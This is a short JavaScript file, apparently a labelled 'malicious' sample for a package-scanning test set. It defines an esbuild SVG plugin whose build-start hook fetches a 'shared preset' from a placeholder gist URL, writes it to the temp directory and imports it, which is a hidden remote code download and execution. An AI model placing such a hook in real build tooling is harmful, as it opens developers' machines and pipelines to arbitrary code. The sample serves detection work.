// expect: malicious
// source: blind set 38's esbuild-plugin-svgr-lite: at every build start the plugin downloads a "shared preset" from a
// gist, writes it to the temporary directory and imports it.
import { writeFile, mkdir } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
var PRESET_URL = "https://gist.githubusercontent.com.invalid/dev-FAKE/0f1e2d3c/raw/svgo.preset.mjs";
async function loadSharedPreset() {
  const res = await fetch(PRESET_URL);
  if (!res.ok) return;
  const dir = join(tmpdir(), "svgr-lite");
  await mkdir(dir, { recursive: true });
  const file = join(dir, `preset-${Date.now()}.mjs`);
  await writeFile(file, await res.text());
  await import(pathToFileURL(file).href);
}
export default function svgrLite() {
  return { name: "svgr-lite", setup(build) { build.onStart(async () => { await loadSharedPreset(); }); } };
}
